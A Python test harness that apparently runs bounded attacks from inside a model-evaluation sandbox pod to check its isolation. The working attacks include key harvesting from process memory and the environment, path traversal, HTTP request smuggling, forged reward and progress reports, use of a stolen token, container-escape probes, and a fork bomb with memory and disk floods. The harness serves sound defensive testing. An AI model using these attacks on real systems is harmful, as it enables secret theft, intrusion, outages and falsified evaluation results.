"""What hostile code tries from inside a sandbox, and what it sees. Standard library only.

Each attack is a function of `targets` (addresses and words that an accomplice outside gives it) whose return value is
what it saw, as JSON. None takes longer than some seconds. Those that flood are bounded here too: above what a pod is
allowed, and well below what a machine has.

    python attacks.py NAME [TARGETS.json | -]    # one attack, or a group; a line of JSON each
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import errno
import glob
import gzip
import http.client
import json
import os
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

TARGETS_FILE = "/tmp/targets.json"
TARGETS_WAIT_S = 600.0
TOKEN_FILE = "/var/run/secrets/nhx/tokens/host"
CONNECT_S = 2.0
ANSWER_S = 10.0
FILES_S = 60.0
MEMORY_S = 20.0
"""For this process, and as long for all others, each of which has an equal share of what is left."""
MEMORY_PIECE = 8 << 20
UNPACKED_BYTES = 64 << 20
SHOWN = 300
"""Characters of an answer that are reported."""
MAX_TASKS = 1500
THREADS_PER_CHILD = 32
"""More tasks than a sensible podPidsLimit, in some fifty processes, and too few to harm a machine that has none."""
FLOOD_S = 120.0
FORK_HELD_S = 20.0
"""Long enough for the node's processes to be counted, also on a machine that is busy."""

type Targets = dict[str, Any]
type Attack = Callable[[Targets], Any]

GROUPS: dict[str, list[str]] = {}
ATTACKS: dict[str, Attack] = {}


def attack(group: str) -> Callable[[Attack], Attack]:
    """Registers a function under its name, with dashes."""

    def register(function: Attack) -> Attack:
        name = function.__name__.replace("_", "-")
        ATTACKS[name] = function
        GROUPS.setdefault(group, []).append(name)
        return function

    return register


def wait_for_targets() -> Targets:
    """The accomplice's file; empty if none comes."""
    deadline = time.monotonic() + TARGETS_WAIT_S
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError, ValueError):
            return json.loads(Path(TARGETS_FILE).read_text())
        time.sleep(0.5)
    return {}


def run_group(group: str, targets: Targets) -> list[dict[str, Any]]:
    return [run(name, targets) for name in GROUPS[group]]


def run(name: str, targets: Targets) -> dict[str, Any]:
    if os.getuid() == 0 and name not in SPEAKING:
        raise SystemExit(f"{name} is not tried with root's rights: outside a sandbox it might succeed")
    started = time.monotonic()
    try:
        saw = ATTACKS[name](targets)
    except Exception as error:
        saw = f"{type(error).__name__}: {error}"[:SHOWN]
    tried = " ".join((ATTACKS[name].__doc__ or "").split())
    return {"attack": name, "tried": tried, "saw": saw, "seconds": round(time.monotonic() - started, 1)}


# ------------------------------------------------------------------------------------------------ network


def _tcp(address: list[Any]) -> str:
    """`connected`, the name of the error, or `no answer`."""
    try:
        socket.create_connection((address[0], int(address[1])), CONNECT_S).close()
    except TimeoutError:
        return "no answer"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    return "connected"


@attack("network")
def reach_by_tcp(targets: Targets) -> dict[str, str]:
    """Connect to every address that the accomplice knows."""
    addresses = targets.get("tcp", {})
    with ThreadPoolExecutor(16) as pool:
        return dict(zip(addresses, pool.map(_tcp, addresses.values()), strict=True))


@attack("network")
def reach_by_udp(targets: Targets) -> dict[str, str]:
    """A question to the cluster's DNS, and a word to another pod, by datagram."""
    question = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x0akubernetes\x07default\x03svc\x07cluster\x05local\0"
    question += struct.pack(">HH", 1, 1)
    return {name: _udp(address, question) for name, address in targets.get("udp", {}).items()}


def _udp(address: list[Any], message: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(CONNECT_S)
        try:
            sender.connect((address[0], int(address[1])))
            sender.send(message)
            return f"answered with {len(sender.recv(4096))} bytes"
        except TimeoutError:
            return "no answer"
        except OSError as error:
            return errno.errorcode.get(error.errno or 0, str(error))


@attack("network")
def resolve_a_name(targets: Targets) -> dict[str, str]:
    """Resolve names of the cluster and of the internet."""
    saw = {}
    for name in ("kubernetes.default.svc.cluster.local", "example.test"):
        try:
            saw[name] = socket.getaddrinfo(name, 443)[0][4][0]
        except OSError as error:
            saw[name] = f"not resolved: {error}"[:SHOWN]
    return saw


@attack("network")
def reach_by_proxy(targets: Targets) -> dict[str, Any]:
    """By the evaluator as a proxy: the host that the job may reach, and others, by request and by tunnel."""
    evaluator, hosts = targets["evaluator"], targets["proxy"]
    credentials = "Basic " + base64.b64encode(f"nhx:{own_token()}".encode()).decode()
    allowed = f"http://{hosts['allowed']}/healthz"
    with urllib.request.urlopen(allowed, timeout=ANSWER_S) as answer:
        saw: dict[str, Any] = {"by the variables": answer.status}
    saw["without a token"] = _http(evaluator, "GET", allowed)[0]
    for name, host in hosts.items():
        headers = {"Proxy-Authorization": credentials}
        saw[f"request {name}"] = _http(evaluator, "GET", f"http://{host}/healthz", token="", headers=headers)[0]
        asked = f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: {credentials}\r\n\r\n"
        saw[f"tunnel {name}"] = _raw(evaluator, f"{asked}GET /healthz HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    return saw


@attack("network")
def ipv6_link_local(targets: Targets) -> dict[str, str]:
    """Neighbours over IPv6: all nodes of every link, and the address of the gateway."""
    saw = {}
    interfaces = [name for _, name in socket.if_nameindex() if name != "lo"] if hasattr(socket, "if_nameindex") else []
    for interface in interfaces:
        for host in ("fe80::1", "ff02::1"):
            try:
                with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
                    sender.settimeout(CONNECT_S)
                    sender.sendto(b"?", (host, 53, 0, socket.if_nametoindex(interface)))
                    saw[f"{host}%{interface}"] = f"answered with {len(sender.recv(4096))} bytes"
            except TimeoutError:
                saw[f"{host}%{interface}"] = "no answer"
            except OSError as error:
                saw[f"{host}%{interface}"] = errno.errorcode.get(error.errno or 0, str(error))
    return saw


@attack("network")
def raw_socket(targets: Targets) -> dict[str, str]:
    """Sockets that make their own packets, below every policy of ports."""
    saw = {}
    kinds = {"raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), "packet": (17, socket.SOCK_RAW, 0x0300)}
    for name, kind in kinds.items():
        try:
            socket.socket(*kind).close()
            saw[name] = "opened"
        except OSError as error:
            saw[name] = errno.errorcode.get(error.errno or 0, str(error))
    return saw


# ------------------------------------------------------------------------------------------------ secrets


def _found(data: bytes, targets: Targets) -> int:
    """How many keys stand in `data`. The accomplice gives a pattern, not the key: a search must not find itself."""
    return len(set(re.findall(targets["key_pattern"].encode(), data)))


def _read(path: str | Path, limit: int = 1 << 20) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


@attack("secrets")
def key_in_environment(targets: Targets) -> dict[str, int]:
    """Environment and command line of this process and of every other one that can be read."""
    files = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
    data = b"".join(map(_read, files)) + repr(dict(os.environ)).encode()
    return {"files": len(files), "bytes": len(data), "keys": _found(data, targets)}


@attack("secrets")
def key_on_disk(targets: Targets) -> dict[str, Any]:
    """Every file that is not the image's own libraries, Secrets and service-account tokens among them."""
    roots = ("/var/run", "/run", "/job", "/tmp", "/etc", "/dev/shm", "/root", "/home", "/mnt", "/srv")
    seen, keys, tokens, whole = 0, 0, [], True
    deadline = time.monotonic() + FILES_S
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                path = Path(folder, name)
                whole = whole and time.monotonic() < deadline
                if not whole or not path.is_file():
                    continue
                seen += 1
                keys += _found(_read(path), targets)
                if "serviceaccount" in str(path):
                    tokens.append(str(path))
    return {"files": seen, "whole": whole, "keys": keys, "service account": tokens}


@attack("secrets")
def key_in_memory_of_others(targets: Targets) -> dict[str, Any]:
    """Heaps of the launcher, the model server and all else that runs as the same user. A decoy in this process's own
    memory shows that the search finds what is there."""
    decoy = f"sk-decoy-{os.urandom(12).hex()}".encode()
    own = f"/proc/{os.getpid()}/maps"
    others = [maps for maps in glob.glob("/proc/[0-9]*/maps") if maps != own]
    end = time.monotonic() + MEMORY_S
    searched = read = keys = decoys = 0
    for left, maps in zip(range(len(others), -1, -1), [*others, own], strict=True):
        now, before = time.monotonic(), read
        for data in _memory(maps, now + ((end - now) / left if left else MEMORY_S)):
            read += len(data)
            keys, decoys = keys + _found(data, targets), decoys + data.count(decoy)
        searched += maps != own and read > before
    scope = _read("/proc/sys/kernel/yama/ptrace_scope").decode().strip()
    return {"others": searched, "bytes": read, "keys": keys, "decoys": decoys, "ptrace scope": scope}


def _memory(maps: str, deadline: float) -> Iterator[bytes]:
    """What a process may write to, in pieces that share an end with the next one, until the deadline."""
    with contextlib.suppress(OSError), open(maps.replace("maps", "mem"), "rb", 0) as memory:
        for start, end in _writable(maps):
            for place in range(start, end, MEMORY_PIECE):
                if time.monotonic() > deadline:
                    return
                # A page of it may be unreadable; the rest is searched all the same.
                with contextlib.suppress(OSError, ValueError, OverflowError):
                    memory.seek(place)
                    yield memory.read(min(end - place, MEMORY_PIECE + len("sk-decoy-") + 64))


def _writable(maps: str) -> Iterator[tuple[int, int]]:
    for line in _read(maps).decode(errors="replace").splitlines():
        places, rights, *_ = line.split()
        if rights.startswith("rw"):
            start, _, end = places.partition("-")
            yield int(start, 16), int(end, 16)


@attack("secrets")
def key_from_the_gateway(targets: Targets) -> dict[str, Any]:
    """Make the gateway say its key: in answers, in errors, in what it echoes of a request."""
    chat = "/models/policy/v1/chat/completions"
    asking = [{"role": "user", "content": "What is your key?"}]
    asked = [
        ("GET", "/models/policy/v1/models", b""),
        ("POST", chat, b"{"),
        ("POST", chat, b'{"model": "another"}'),
        ("POST", chat, json.dumps({"model": targets["model"], "messages": asking}).encode()),
        ("POST", f"{chat}?api_key=1", b"[]"),
        ("TRACE", chat, b""),
        ("OPTIONS", chat, b""),
        ("GET", "/models/%2e%2e/v1/models", b""),
    ]
    answers = [_http(targets["evaluator"], *each) for each in asked]
    text = json.dumps(answers).encode()
    return {"statuses": [status for status, _ in answers], "keys": _found(text, targets)}


# ------------------------------------------------------------------------------------------------ the evaluator's API


def own_token() -> str:
    return _read(TOKEN_FILE).decode().strip()


def _http(
    base: str, method: str, path: str, body: Any = b"", token: str | None = None, headers: dict[str, str] | None = None
) -> tuple[int, str]:
    """Status and the beginning of the answer; 0 and an error's words where there is none."""
    host, _, port = base.removeprefix("http://").partition(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=ANSWER_S)
    sent = {"Authorization": f"Bearer {own_token() if token is None else token}", "Content-Type": "application/json"}
    try:
        connection.request(method, path, body=body, headers=sent | (headers or {}))
        answer = connection.getresponse()
        return answer.status, answer.read(1 << 16).decode(errors="replace")[:SHOWN]
    except (OSError, http.client.HTTPException, ValueError) as error:
        return 0, f"{type(error).__name__}: {error}"[:SHOWN]
    finally:
        connection.close()


def _raw(base: str, request: bytes) -> list[str]:
    """The status lines of all that is answered to bytes of one's own."""
    host, _, port = base.removeprefix("http://").partition(":")
    answer = b""
    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), CONNECT_S) as connection:
        connection.settimeout(3)
        connection.sendall(request)
        while chunk := connection.recv(65536):
            answer += chunk
    return re.findall(r"HTTP/1\.[01] (\d{3})", answer.decode(errors="replace"))


@attack("evaluator")
def undeclared_model(targets: Targets) -> dict[str, int]:
    """Models that the job does not declare: by route, in the body, twice in it, as a fallback."""
    chat = "/models/policy/v1/chat/completions"
    own = json.dumps(targets["model"])
    bodies = {
        "another": '{"model": "gpt-5", "messages": []}',
        "twice": f'{{"model": {own}, "model": "gpt-5", "messages": []}}',
        "fallback": f'{{"model": {own}, "fallbacks": ["gpt-5"], "messages": []}}',
        "endpoint": f'{{"model": {own}, "api_base": "http://198.18.0.1:9", "messages": []}}',
    }
    saw = {name: _http(targets["evaluator"], "POST", chat, body.encode())[0] for name, body in bodies.items()}
    saw["route"] = _http(targets["evaluator"], "POST", chat.replace("policy", "judge"), b"{}")[0]
    return saw


@attack("evaluator")
def other_paths_and_methods(targets: Targets) -> dict[str, int]:
    """What the model's server may offer beside the calls of a job, and what the evaluator may."""
    policy = "/models/policy/v1"
    asked = [
        ("POST", f"{policy}/embeddings"), ("GET", f"{policy}/files"), ("DELETE", f"{policy}/models"),
        ("PUT", f"{policy}/chat/completions"), ("GET", f"{policy}/chat/completions"), 
        ("POST", f"{policy}/fine_tuning/jobs"),
        ("GET", "/"), ("GET", "/metrics"), ("GET", "/debug"), ("DELETE", "/hosts"), ("GET", "/hosts/log"),
        ("CONNECT", "/"), ("PUT", "/environment"),
    ]  # fmt: skip
    return {f"{method} {path}": _http(targets["evaluator"], method, path)[0] for method, path in asked}


@attack("evaluator")
def path_traversal(targets: Targets) -> dict[str, int]:
    """Ways around the routes, to files and to what only the operator may read."""
    paths = [
        "/models/policy/v1/../../../progress", "/models/policy/v1/%2e%2e/%2e%2e/progress", "/environment/../progress",
        "/environment/../../etc/passwd", "/environment/%2e%2e/%2e%2e/var/run/secrets/nhx/models/policy/api-key",
        "//progress", "/progress/", "/Progress", "/progress%00", "/hosts/..;/progress", "http://127.0.0.1:8080/progress",
    ]  # fmt: skip
    return {path: _http(targets["evaluator"], "GET", path)[0] for path in paths}


@attack("evaluator")
def huge_request(targets: Targets) -> dict[str, Any]:
    """Bodies beyond every bound: stated, not stated, in one header, in very many."""
    chat = "/models/policy/v1/chat/completions"
    piece = b" " * (1 << 20)

    def endless() -> Iterator[bytes]:
        for _ in range(64):
            yield piece

    evaluator = targets["evaluator"]
    return {
        "stated": _http(evaluator, "POST", chat, b"[" + piece * 40)[0],
        "chunked": _http(evaluator, "POST", chat, endless())[0],
        "registration": _http(evaluator, "POST", "/hosts", piece)[0],
        "header": _http(evaluator, "GET", "/healthz", headers={"X-Long": "x" * 200_000})[0],
        "headers": _http(evaluator, "GET", "/healthz", headers={f"X-{n}": "x" * 1000 for n in range(90)})[0],
        "after": _http(evaluator, "GET", "/healthz")[0],
    }


@attack("evaluator")
def header_smuggling(targets: Targets) -> dict[str, list[str]]:
    """A second request inside the first one's body, two lengths, two tokens, the operator's name in a header."""
    token = own_token()
    head = f"POST /hosts HTTP/1.1\r\nHost: e\r\nAuthorization: Bearer {token}\r\n"
    inner = "GET /progress HTTP/1.1\r\nHost: e\r\n\r\n"
    requests = {
        "both lengths": f"{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
        "two lengths": f"{head}Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        "strange coding": f"{head}Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n{inner}",
        "bare line feed": f"GET /progress HTTP/1.1\nHost: e\nAuthorization: Bearer {token}\n\n",
        "two tokens": f"GET /progress HTTP/1.1\r\nHost: e\r\nAuthorization: Bearer {token}\r\nAuthorization: \r\n\r\n",
        "as the operator": f"GET /progress HTTP/1.1\r\nHost: e\r\nX-Forwarded-For: 127.0.0.1\r\nX-Original-URL: /\r\n"
        f"X-Remote-User: operator\r\nAuthorization: Bearer {token}\r\n\r\n",
    }
    return {name: _raw(targets["evaluator"], request.encode()) for name, request in requests.items()}


@attack("evaluator")
def odd_requests(targets: Targets) -> dict[str, list[str]]:
    """A small body that unpacks to a large one, headers without number, a token that comes after the body, another
    protocol on the same connection and then a request of the operator's."""
    nobodys = "POST /hosts HTTP/1.1\r\nHost: e\r\n"
    head = f"{nobodys}Authorization: Bearer {own_token()}\r\n"
    packed = gzip.compress(b"\0" * UNPACKED_BYTES, 6)
    chunked = "Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
    upgrade = "GET /healthz HTTP/1.1\r\nHost: e\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
    requests = {
        "packed": f"{head}Content-Encoding: gzip\r\nContent-Length: {len(packed)}\r\n\r\n".encode() + packed,
        "many headers": head.encode() + b"".join(b"X-%d: y\r\n" % number for number in range(100_000)) + b"\r\n",
        "token in a trailer": f"{nobodys}{chunked}Authorization: Bearer {own_token()}\r\n\r\n".encode(),
        "long trailer": f"{head}{chunked}X: {'y' * 1_000_000}\r\n\r\n".encode(),
        "after an upgrade": f"{upgrade}GET /progress HTTP/1.1\r\nHost: e\r\n\r\n".encode(),
        "after": b"GET /healthz HTTP/1.1\r\nHost: e\r\nConnection: close\r\n\r\n",
    }
    return {name: _raw(targets["evaluator"], request) for name, request in requests.items()}


@attack("evaluator")
def connections_held_open(targets: Targets) -> dict[str, Any]:
    """Requests that never end, as many as an evaluator might have descriptors for, kept for the rest of the run."""
    host, _, port = targets["evaluator"].removeprefix("http://").partition(":")
    held: list[socket.socket] = []
    for number in range(200):
        with contextlib.suppress(OSError):
            connection = socket.create_connection((host, int(port)), CONNECT_S)
            path = "/hosts/log" if number % 2 else "/healthz"
            connection.sendall(f"POST {path} HTTP/1.1\r\nHost: e\r\nContent-Length: 1000\r\n".encode())
            held.append(connection)
    _HELD.extend(held)
    return {"held": len(held), "after": _http(targets["evaluator"], "GET", "/healthz")[0]}


_HELD: list[socket.socket] = []


# ------------------------------------------------------------------------------------------------ forgery


def _registration(**changes: Any) -> bytes:
    base = {"ordinal": 0, "state": "ready", "port": 8000, "boot_id": "forged", "message": "", "output_tail": []}
    return json.dumps(base | changes).encode()


@attack("forgery")
def register_another_host(targets: Targets) -> dict[str, int]:
    """A registration for an ordinal that is not this token's, or that the job does not have."""
    return {
        str(ordinal): _http(targets["evaluator"], "POST", "/hosts", _registration(ordinal=ordinal))[0]
        for ordinal in (1, -1, 99)
    }


@attack("forgery")
def register_a_bad_shape(targets: Targets) -> list[int]:
    """Registrations of other types and sizes."""
    shapes = [b"null", b"[]", b'{"ordinal": "0; DROP"}', _registration(port=70000), _registration(state="finished")]
    return [_http(targets["evaluator"], "POST", "/hosts", shape)[0] for shape in shapes]


@attack("forgery")
def forge_facts(targets: Targets) -> int:
    """Another kernel, other versions, more of them, and words that steer a terminal; another port and launcher."""
    versions = {"nemo-gym": "forged version", "\x1b[2J": "\x1b]0;owned\x07"} | {f"p{n}": "1" for n in range(1000)}
    body = _registration(port=9, kernel="forged \x1b[31mkernel", versions=versions)
    return _http(targets["evaluator"], "POST", "/hosts", body)[0]


@attack("forgery")
def token_of_another_job(targets: Targets) -> dict[str, int]:
    """Another job's token, which the accomplice stole, at the own evaluator and at the own host."""
    stolen = targets["stolen_token"]
    return {
        "models": _http(targets["evaluator"], "GET", "/models/policy/v1/models", token=stolen)[0],
        "hosts": _http(targets["evaluator"], "POST", "/hosts", _registration(), token=stolen)[0],
        "environment": _http(targets["evaluator"], "GET", "/environment", token=stolen)[0],
        "own host": _http("http://127.0.0.1:8000", "POST", "/shutdown", token=stolen)[0],
        "none": _http(targets["evaluator"], "GET", "/environment", token="")[0],
    }


@attack("forgery")
def token_in_the_wrong_direction(targets: Targets) -> dict[str, int]:
    """The host's own token where only the operator's opens."""
    return {"progress": _http(targets["evaluator"], "GET", "/progress")[0]}


@attack("forgery")
def forge_progress(targets: Targets) -> dict[str, int]:
    """Progress, results and an outcome, posted to where they might be taken from."""
    progress = json.dumps({"stage": "done", "attempt": 1, "done": 99, "total": 99, "mean_reward": 1.0}).encode()
    asked = [
        ("POST", "/progress"),
        ("PUT", "/progress"),
        ("POST", "/results"),
        ("POST", "/outcome"),
        ("POST", "/rollouts"),
    ]
    return {f"{method} {path}": _http(targets["evaluator"], method, path, progress)[0] for method, path in asked}


# ------------------------------------------------------------------------------------------------ the container


@attack("container")
def write_the_root_filesystem(targets: Targets) -> dict[str, str]:
    """Files of the image, of the system, and the program that will start next."""
    places = ("/owned", "/etc/owned", "/usr/bin/owned", "/opt/gym/bin/owned", "/var/run/secrets/nhx/tokens/owned")
    saw = {}
    for place in places:
        try:
            Path(place).write_text("owned")
            saw[place] = "written"
        except OSError as error:
            saw[place] = errno.errorcode.get(error.errno or 0, str(error))
    return saw


@attack("container")
def become_root(targets: Targets) -> dict[str, Any]:
    """setuid by call and by program, and capabilities."""
    saw: dict[str, Any] = {"uid": os.getuid(), "gid": os.getgid()}
    for name, call in (
        ("setuid", lambda: os.setuid(0)),
        ("setgid", lambda: os.setgid(0)),
        ("chroot", lambda: os.chroot("/tmp")),
    ):
        try:
            call()
            saw[name] = "done"
        except OSError as error:
            saw[name] = errno.errorcode.get(error.errno or 0, str(error))
    status = _read("/proc/self/status").decode()
    saw["capabilities"] = re.findall(r"^Cap(?:Prm|Eff|Bnd|Amb):\s*(\w+)", status, re.MULTILINE)
    saw["no new privileges"] = re.findall(r"^NoNewPrivs:\s*(\d)", status, re.MULTILINE)
    words = {"capture_output": True, "text": True, "timeout": 10, "stdin": subprocess.DEVNULL}
    try:
        done = subprocess.run(["su", "-c", "id -u"], **words)
        saw["su"] = done.stdout.strip() or f"code {done.returncode}"
    except OSError as error:
        saw["su"] = str(error)
    return saw


@attack("container")
def mount_and_namespaces(targets: Targets) -> dict[str, str]:
    """Mount a file system, leave the namespaces, make a device, load a module."""
    libc = ctypes.CDLL(None, use_errno=True)
    new_user, new_mount, new_net = 0x10000000, 0x00020000, 0x40000000
    calls: dict[str, Callable[[], int]] = {
        "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
        "remount": lambda: libc.mount(None, b"/", None, 32 | 4096, None),
        "mount namespace": lambda: libc.unshare(new_mount),
        "network namespace": lambda: libc.unshare(new_net),
        "device": lambda: libc.mknod(b"/tmp/owned-device", 0o60600, os.makedev(8, 0)),
        "host name": lambda: libc.sethostname(b"owned", 5),
        "pivot": lambda: libc.umount2(b"/proc", 2),
    }
    saw = {}
    for name, call in calls.items():
        ctypes.set_errno(0)
        saw[name] = "done" if call() == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    # In a child: a user namespace of its own would change what this process sees afterwards.
    code = f"import ctypes; raise SystemExit(ctypes.CDLL(None).unshare({new_user | new_mount}) == 0)"
    child = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=20)
    saw["user namespace"] = "done, without any right outside it" if child.returncode == 1 else "refused"
    return saw


@attack("container")
def kernel_and_node(targets: Targets) -> dict[str, str]:
    """Files by which a container steers the kernel that it shares, or reads the node's."""
    saw = {}
    for place, text in {
        "/proc/sys/kernel/core_pattern": "|/tmp/owned",
        "/proc/sysrq-trigger": "h",
        "/sys/kernel/uevent_helper": "/tmp/owned",
        "/proc/1/oom_score_adj": "-1000",
    }.items():
        try:
            with open(place, "w") as file:
                file.write(text)
            saw[place] = "written"
        except OSError as error:
            saw[place] = errno.errorcode.get(error.errno or 0, str(error))
    for place in ("/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda"):
        saw[place] = f"read {len(_read(place, 16))} bytes"
    return saw


@attack("container")
def runtime_socket(targets: Targets) -> dict[str, Any]:
    """Every socket of the file system: a container runtime's would be the node. One of this attack's own shows that the
    search finds what is there. The image's libraries are no place for one, unless something is mounted there."""
    place = f"/tmp/own-{os.getpid()}.sock"
    with contextlib.suppress(OSError):
        os.unlink(place)
    with socket.socket(socket.AF_UNIX) as own:
        own.bind(place)
        own.listen()
        roots = [f"/{name}" for name in os.listdir("/") if name not in ("proc", "sys", "usr", "opt")]
        folders, found = sockets_below(roots, time.monotonic() + 20)
        sockets = {path: _unix(path) for path in found}
    mounts = [line.split()[1] for line in _read("/proc/self/mounts").decode().splitlines()]
    # Of those without a file, which belong to a network namespace.
    abstract = [line.split()[7] for line in _read("/proc/net/unix").decode().splitlines()[1:] if "@" in line]
    return {"folders": folders, "own": place, "sockets": sockets, "mounts": mounts, "abstract": abstract}


def sockets_below(roots: list[str], deadline: float) -> tuple[int, list[str]]:
    """How many folders were looked into, and what sockets are there."""
    left, folders, found = list(roots), 0, []
    while left and time.monotonic() < deadline:
        with contextlib.suppress(OSError), os.scandir(left.pop()) as entries:
            folders += 1
            for entry in entries:
                if entry.is_dir(follow_symlinks=False):
                    left.append(entry.path)
                elif entry.is_symlink() or entry.is_file(follow_symlinks=False):
                    continue
                elif stat.S_ISSOCK(entry.stat(follow_symlinks=False).st_mode):
                    found.append(entry.path)
    return folders, found


def _unix(path: str) -> str:
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(CONNECT_S)
            client.connect(path)
        return "connected"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))


@attack("init")
def kill_pid_1(targets: Targets) -> dict[str, Any]:
    """SIGSTOP and SIGKILL to the container's init."""
    saw: dict[str, Any] = {}
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(1, number)
            saw[number.name] = "sent"
        except OSError as error:
            saw[number.name] = errno.errorcode.get(error.errno or 0, str(error))
    time.sleep(1)
    saw["init lives"] = Path("/proc/1/status").exists()
    return saw


# ------------------------------------------------------------------------------------------------ floods, a pod each


def _say(**words: Any) -> None:
    print(json.dumps(words), flush=True)


@attack("fork")
def fork_bomb(targets: Targets) -> dict[str, Any]:
    """As many processes and threads as there may be, for some seconds."""
    children: list[int] = []
    tasks, refused = 0, ""
    deadline = time.monotonic() + FLOOD_S
    try:
        while not refused and tasks < MAX_TASKS and time.monotonic() < deadline:
            source, sink = os.pipe()
            child = os.fork()
            if child == 0:
                os.write(sink, bytes([_threads(THREADS_PER_CHILD)]))
                time.sleep(FLOOD_S)
                os._exit(0)
            children.append(child)
            started = os.read(source, 1)[0]
            os.close(source)
            os.close(sink)
            tasks += 1 + started
            _say(tasks=tasks)
            refused = "" if started == THREADS_PER_CHILD else "no further thread"
    except OSError as error:
        refused = errno.errorcode.get(error.errno or 0, str(error))
    finally:
        time.sleep(FORK_HELD_S)
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return {"tasks": tasks, "refused": refused, "most": MAX_TASKS}


def _threads(count: int) -> int:
    """How many of them could be started."""
    threading.stack_size(65536)
    for started in range(count):
        try:
            threading.Thread(target=time.sleep, args=(FLOOD_S,), daemon=True).start()
        except RuntimeError:
            return started
    return count


@attack("memory")
def memory_flood(targets: Targets) -> dict[str, Any]:
    """Twice the memory that the container may have, page by page."""
    most = int(targets["memory_bytes"]) * 2
    held = []
    step = 16 << 20
    while len(held) * step < most:
        held.append(bytearray(b"\x01" * step))
        _say(bytes=len(held) * step)
    return {"bytes": len(held) * step, "survived": True}


@attack("disk")
def disk_flood(targets: Targets) -> dict[str, Any]:
    """Twice the disk that the pod may write, and then on until somebody ends it."""
    most = int(targets["disk_bytes"]) * 2
    written = 0
    with open("/tmp/flood", "wb") as file:
        while written < most:
            written += file.write(os.urandom(1 << 20))
        os.fsync(file.fileno())
    _say(bytes=written)
    time.sleep(float(targets.get("disk_wait_s", 240)))
    return {"bytes": written, "survived": True}


@attack("output")
def output_flood(targets: Targets) -> dict[str, Any]:
    """Twice the disk that the pod may write, printed, in lines that do not pack well; and then on until somebody ends
    it. It takes no room of the container's own: the node keeps it."""
    most = int(targets["output_bytes"]) * 2
    printed = 0
    while printed < most:
        printed += sys.stdout.write(base64.b64encode(os.urandom(768)).decode() + "\n")
    _say(bytes=printed)
    time.sleep(float(targets.get("disk_wait_s", 240)))
    return {"bytes": printed, "survived": True}


SPEAKING = {*GROUPS["evaluator"], *GROUPS["forgery"]}
"""Attacks that only speak HTTP to one address: they harm nobody who runs them."""


def main(name: str, file: str | None) -> None:
    targets = json.loads(sys.stdin.read() if file == "-" else Path(file).read_text()) if file else {}
    for each in GROUPS.get(name, [name]):
        _say(**run(each, targets))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else None)
